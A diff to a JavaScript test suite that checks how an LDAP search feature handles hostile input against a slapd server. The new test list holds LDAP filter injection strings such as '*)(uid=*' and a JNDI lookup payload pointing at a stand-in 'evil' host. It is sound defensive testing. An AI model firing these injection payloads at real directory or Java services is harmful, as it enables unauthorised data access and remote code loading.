@@ -100,8 +100,10 @@ describe('search text through realm/search against slapd', { timeout: 90_000 }, 
       const got = await search(payload, 'keyword');
       assert.deepEqual(got, expectedUids(payload), `keyword ${JSON.stringify(payload)}`);
     });
-    // In auto mode "(" starts a raw filter, which must parse; otherwise the same as keyword.
-    await tryEach('bad search input', payloads.filter((p) => !p.startsWith('(')), (p) => `auto ${JSON.stringify(p)}`, async (payload) => {
+    // In auto mode text that does not start with "(" is keywords, "*" alone is everyone.
+    // (The auto-mode pass repeats the payloads that auto mode could read differently.)
+    const autoPayloads = ['*)(uid=*', ')(objectClass=*', '\\', '*', '**', '* *', 'a*', '*()|&!=<>~', '${jndi:ldap://evil}'];
+    await tryEach('bad search input', autoPayloads, (p) => `auto ${JSON.stringify(p)}`, async (payload) => {
       assert.deepEqual(await search(payload), payload.trim() === '*' || /^\*+$/.test(payload.trim()) ? people.map((p) => p.uid).sort() : expectedUids(payload));
     });
     assert.equal(fingerprint(backend.databasePath), before, 'a search writes nothing');
